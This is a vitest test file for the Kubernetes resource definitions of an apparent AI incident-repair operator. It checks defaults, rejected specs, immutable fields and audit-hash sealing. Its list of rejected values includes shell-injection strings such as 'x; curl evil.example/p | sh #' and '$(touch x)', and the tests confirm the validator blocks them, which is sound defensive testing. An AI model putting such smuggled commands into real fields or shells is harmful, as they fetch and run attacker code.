// The CustomResourceDefinitions on a real API server: what they accept, what they refuse, and with
// which messages.

import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { AGENT_CLASSES, INCIDENTS, MONITORS } from '../../src/kube/resources.ts';
import { type ApiServer, agentClass, startApiServer } from '../support/api-server.ts';
import { NAMESPACES } from '../support/namespaces.ts';

const namespace = 'crd-test';
let server: ApiServer;
let count = 0;

beforeAll(async () => {
  server = await startApiServer();
  await server.client.create(NAMESPACES, { metadata: { name: namespace } });
});
afterAll(() => server?.stop());

const check = { name: 'c', kubernetes: { apiVersion: 'v1', kind: 'ConfigMap', name: 'x', cel: 'true' } };

async function create(spec: object = {}) {
  count += 1;
  return await server.client.create(INCIDENTS, {
    metadata: { namespace, name: `i-${count}` },
    spec: { summary: 's', verify: { checks: [check] }, ...spec },
  });
}

async function change(spec: object, of: object = {}) {
  const { name } = (await create(of)).metadata;
  return await server.client.patch(INCIDENTS, { namespace, name }, { spec });
}

describe('Incident', () => {
  it('gets its defaults', async () => {
    expect((await create()).spec).toMatchObject({
      severity: 'warning',
      agentClassName: 'default',
      suspend: false,
      cancel: false,
      verify: { soakSeconds: 30 },
    });
  });

  it('accepts every field of the example in the documentation', async () => {
    await create({
      description: 'free text',
      severity: 'critical',
      targetNamespaces: ['a', 'b'],
      alertLabels: { alertname: 'X' },
      alertAnnotations: { summary: 'y' },
      verify: {
        soakSeconds: 10,
        checks: [
          { name: 'h', http: { service: 'pd', namespace: 'a', port: 2379, path: '/x', cel: 'body.count == 3' } },
          {
            name: 'k',
            kubernetes: { apiVersion: 'apps/v1', kind: 'StatefulSet', namespace: 'b', name: 'n', cel: 'true' },
          },
        ],
      },
      limits: { timeoutSeconds: 900, maxTurns: 60, maxTokens: 2_000_000, maxCostMilliUSD: 2000, attempts: 2 },
    });
  });

  const refused: readonly [string, object, RegExp][] = [
    ['no checks', { verify: { checks: [] } }, /should have at least 1 items/],
    ['no summary', { summary: '' }, /spec\.summary/],
    ['two checks of one name', { verify: { checks: [check, check] } }, /Duplicate value/],
    [
      'a check of two kinds',
      { verify: { checks: [{ ...check, http: { service: 's', port: 1, cel: 'true' } }] } },
      /a check must set exactly one of: http, kubernetes/,
    ],
    ['a check of no kind', { verify: { checks: [{ name: 'c' }] } }, /must set exactly one of: http, kubernetes/],
    [
      'a check that reads a Secret',
      { verify: { checks: [{ name: 'c', kubernetes: { ...check.kubernetes, kind: 'Secret' } }] } },
      /may not read Secrets; choose another kind/,
    ],
    ...Object.entries({
      apiVersion: 'v1;x',
      kind: 'ConfigMap $(touch x)',
      name: 'x; curl evil.example/p | sh #',
      labelSelector: "a='$(x)'",
      namespace: 'a;b',
    }).map(([field, value]): [string, object, RegExp] => [
      `a check whose ${field} a shell could take for a command`,
      { verify: { checks: [{ name: 'c', kubernetes: { ...check.kubernetes, name: undefined, [field]: value } }] } },
      new RegExp(`checks\\[0\\]\\.kubernetes\\.${field}: .*should match`),
    ]),
    [
      'a check of a subresource',
      { verify: { checks: [{ name: 'c', kubernetes: { ...check.kubernetes, kind: 'Pod', name: 'x/log' } }] } },
      /kubernetes\.name: .*should match/,
    ],
    [
      'a check outside of the targets',
      {
        targetNamespaces: ['a'],
        verify: { checks: [{ name: 'c', kubernetes: { ...check.kubernetes, namespace: 'b' } }] },
      },
      /namespace of each check must be in targetNamespaces; add it there/,
    ],
    [
      'a soak that does not end within the time limit',
      { verify: { soakSeconds: 60, checks: [check] }, limits: { timeoutSeconds: 60 } },
      /spec\.verify\.soakSeconds: .*soakSeconds must be less than limits\.timeoutSeconds/,
    ],
    [
      'the default soak and a time limit that is no longer',
      { limits: { timeoutSeconds: 30 } },
      /soakSeconds must be less than/,
    ],
    ['an unknown severity', { severity: 'panic' }, /supported values: "critical", "warning", "info"/],
    ['a limit below its minimum', { limits: { attempts: 0 } }, /should be greater than or equal to 1/],
    ['the same target twice', { targetNamespaces: ['a', 'a'] }, /Duplicate value/],
    ['a target that is no namespace', { targetNamespaces: ['A_b'] }, /spec\.targetNamespaces\[0\]/],
  ];
  it.each(refused)('with %s is refused', async (_what, spec, message) => {
    await expect(create(spec)).rejects.toThrow(message);
  });

  const immutable: readonly [string, object, object][] = [
    ['summary', { summary: 'other' }, {}],
    ['description, set later', { description: 'late' }, {}],
    ['description, taken away', { description: null }, { description: 'was' }],
    ['severity', { severity: 'critical' }, {}],
    ['agentClassName', { agentClassName: 'stronger' }, {}],
    ['targetNamespaces', { targetNamespaces: ['a', 'b'] }, { targetNamespaces: ['a'] }],
    ['targetNamespaces, set later', { targetNamespaces: ['kube-system'] }, {}],
    ['the checks', { verify: { checks: [{ ...check, kubernetes: { ...check.kubernetes, cel: 'false' } }] } }, {}],
    ['the soak', { verify: { soakSeconds: 0 } }, {}],
    ['limits, set later', { limits: { attempts: 1 } }, {}],
    ['alertLabels', { alertLabels: { a: 'c' } }, { alertLabels: { a: 'b' } }],
  ];
  it.each(immutable)('does not let %s change', async (_what, spec, of) => {
    await expect(change(spec, of)).rejects.toThrow(
      /cannot be changed: only suspend and cancel can change in the spec of an Incident/,
    );
  });

  it('can be suspended, resumed and cancelled, but not un-cancelled', async () => {
    const { name } = (await create()).metadata;
    const patch = (spec: object) => server.client.patch(INCIDENTS, { namespace, name }, { spec });
    await patch({ suspend: true });
    await patch({ suspend: false });
    await patch({ cancel: true });
    await patch({ suspend: true });
    await expect(patch({ cancel: false })).rejects.toThrow(/cancel cannot be unset/);
    await expect(patch({ cancel: null })).rejects.toThrow(/cancel cannot be unset/);
  });

  it('is listed with the columns that people need', async () => {
    const status = JSON.stringify(
      await server.client.read('/apis/apiextensions.k8s.io/v1/customresourcedefinitions/incidents.oplab.dev'),
    );
    expect(status).toContain('"shortNames":["inc"]');
    expect(status).toContain('"categories":["all"]');
    for (const column of ['Phase', 'Severity', 'Attempt', 'Claim', 'Verified', 'Age']) {
      expect(status).toContain(`"name":"${column}"`);
    }
    // The API server's own assessment of the schema.
    expect(status).not.toContain('NonStructuralSchema');
  });

  it('does not let its sealed head hash change once it is written', async () => {
    const { name } = (await create()).metadata;
    const seal = (sealedHeadHash: string) =>
      server.client.patch(
        INCIDENTS,
        { namespace, name },
        { status: { audit: { sealedHeadHash } } },
        { subresource: 'status' },
      );
    await seal('h1');
    await expect(seal('h2')).rejects.toThrow(/sealedHeadHash cannot be changed/);
  });

  it('does not let its sealed head hash be removed, alone or with what contains it', async () => {
    const { name } = (await create()).metadata;
    const patch = (status: object | null) =>
      server.client.patch(INCIDENTS, { namespace, name }, { status }, { subresource: 'status' });
    await patch({ audit: { entries: 1, headHash: 'h1' } });
    await patch({ audit: null });
    await patch({ audit: { entries: 1, headHash: 'h1', sealedHeadHash: 'h1' } });
    for (const without of [{ audit: { sealedHeadHash: null } }, { audit: null }, null]) {
      await expect(patch(without)).rejects.toThrow(/sealedHeadHash cannot be removed/);
    }
    await patch({ audit: { entries: 2 }, message: 'still open to other changes' });
    expect((await server.client.get(INCIDENTS, { namespace, name })).status).toMatchObject({
      audit: { entries: 2, sealedHeadHash: 'h1' },
    });
  });
});

describe('AgentClass', () => {
  it('accepts quantities as numbers and as text, and gets its defaults', async () => {
    const resources = { agent: { requests: { cpu: 1, memory: '1Gi' } } };
    const made = await server.client.create(AGENT_CLASSES, agentClass('quantities', { resources }));
    expect(made.spec).toMatchObject({
      mode: 'Repair',
      model: { name: 'claude-opus-5-5', summaryName: 'claude-haiku-5-5', maxOutputTokens: 16000 },
      incidentNamespaces: ['*'],
      targetNamespaces: ['*'],
      resources,
    });
  });

  const refused: readonly [string, object, RegExp][] = [
    [
      'a pattern for targets',
      { targetNamespaces: ['tikv', 'tikv-*'] },
      /targetNamespaces\[1\].*tikv-\*.*list each namespace/,
    ],
    [
      'a value of incidentNamespaces that is not a valid namespace name',
      { incidentNamespaces: ['Foo Bar'] },
      /incidentNamespaces\[0\]/,
    ],
    ['no target namespace at all', { targetNamespaces: [] }, /targetNamespaces.*should have at least 1 items/],
    [
      'an invalid quantity',
      { resources: { agent: { limits: { memory: '1 GB' } } } },
      /resources\.agent\.limits.*memory.*1 GB.*must be a quantity.* such as 500m, 2 or 1Gi/,
    ],
    ['a negative quantity', { resources: { sandbox: { requests: { cpu: -1 } } } }, /must be a quantity/],
    ['a negative quantity, as text', { resources: { sandbox: { requests: { cpu: '-1m' } } } }, /must be a quantity/],
  ];
  it.each(refused)('with %s is refused', async (_what, spec, message) => {
    await expect(server.client.create(AGENT_CLASSES, agentClass(`refused-${count++}`, spec))).rejects.toThrow(message);
  });

  it('accepts namespaces by name, and quantities in every notation', async () => {
    const resources = { agent: { requests: { cpu: 0, memory: '0.5Gi', 'ephemeral-storage': '1e6' } } };
    const namespaces = { incidentNamespaces: ['*'], targetNamespaces: ['tikv', '0-a'] };
    await server.client.create(AGENT_CLASSES, agentClass('named', { ...namespaces, resources }));
  });

  it('with a name that does not fit into other names is refused', async () => {
    await expect(server.client.create(AGENT_CLASSES, agentClass('x'.repeat(51)))).rejects.toThrow(
      /at most 50 characters/,
    );
  });
});

describe('Monitor', () => {
  const query = { prometheus: { service: 'p', query: 'up == 0' } };
  const watch = (spec: object = {}, name = `m-${count++}`) =>
    server.client.create(MONITORS, {
      metadata: { namespace, name },
      spec: { check: query, incident: { summary: 's' }, ...spec },
    });

  it('gets its defaults', async () => {
    expect((await watch()).spec).toMatchObject({
      check: { prometheus: { port: 9090, pathPrefix: '', scheme: 'http', cel: 'size(samples) == 0' } },
      intervalSeconds: 15,
      forSeconds: 0,
      clearSeconds: 30,
      severity: 'warning',
      suspend: false,
      incident: { agentClassName: 'default', suspend: false, verify: { soakSeconds: 30, checks: [] } },
    });
  });

  it('may run checks in any of its targets', async () => {
    const http = { service: 's', namespace: 'b', port: 1, cel: 'true' };
    const verify = { checks: [{ name: 'c', http }] };
    await watch({ check: { http }, incident: { summary: 's', targetNamespaces: ['a', 'b'], verify } });
  });

  it('can be changed, because it is not yet an instruction', async () => {
    const { name } = (await watch()).metadata;
    const spec = { groupBy: ['instance'], incident: { summary: 'other' } };
    const changed = await server.client.patch(MONITORS, { namespace, name }, { spec });
    expect(changed.spec).toMatchObject(spec);
  });

  const refused: readonly [string, object, RegExp][] = [
    ['no check', { check: {} }, /a check must set exactly one of: http, kubernetes, prometheus/],
    [
      'two checks',
      { check: { ...query, http: { service: 's', port: 1, cel: 'true' } } },
      /a check must set exactly one of: http, kubernetes, prometheus/,
    ],
    [
      'groupBy over CEL',
      { groupBy: ['instance'], check: { prometheus: { ...query.prometheus, cel: 'size(samples) < 3' } } },
      /groupBy: only allowed with a prometheus check that sets no cel/,
    ],
    [
      'groupBy over objects',
      { groupBy: ['instance'], check: { kubernetes: { apiVersion: 'v1', kind: 'Pod', cel: 'true' } } },
      /groupBy: only allowed with a prometheus check/,
    ],
    [
      'a list and a name',
      { check: { kubernetes: { apiVersion: 'v1', kind: 'Pod', name: 'p', labelSelector: 'a=b', cel: 'true' } } },
      /labelSelector: not allowed together with name/,
    ],
    [
      'a kind that a shell could take for a command',
      { check: { kubernetes: { apiVersion: 'v1', kind: 'Pod;x', cel: 'true' } } },
      /check\.kubernetes\.kind: .*should match/,
    ],
    [
      'Incidents whose soak does not end within their time limit',
      { incident: { summary: 's', verify: { soakSeconds: 3600 }, limits: { timeoutSeconds: 60 } } },
      /spec\.incident\.verify\.soakSeconds: .*soakSeconds must be less than/,
    ],
    [
      'its own check outside its target namespaces',
      {
        check: { prometheus: { ...query.prometheus, namespace: 'c' } },
        incident: { summary: 's', targetNamespaces: ['a', 'b'] },
      },
      /the namespace of each check must be in incident\.targetNamespaces/,
    ],
    [
      'a check of its Incidents outside their target namespaces',
      {
        incident: {
          summary: 's',
          targetNamespaces: ['a'],
          verify: { checks: [{ name: 'c', http: { service: 's', namespace: 'b', port: 1, cel: 'true' } }] },
        },
      },
      /must be in incident\.targetNamespaces; add it there/,
    ],
    ['an interval of zero', { intervalSeconds: 0 }, /should be greater than or equal to 1/],
    [
      'a path prefix with a query',
      { check: { prometheus: { ...query.prometheus, pathPrefix: '/a?b' } } },
      /pathPrefix/,
    ],
  ];
  it.each(refused)('with %s is refused', async (_what, spec, message) => {
    await expect(watch(spec)).rejects.toThrow(message);
  });

  it('with a name that does not fit into the names of its Incidents is refused', async () => {
    await expect(watch({}, 'x'.repeat(51))).rejects.toThrow(/at most 50 characters/);
  });
});
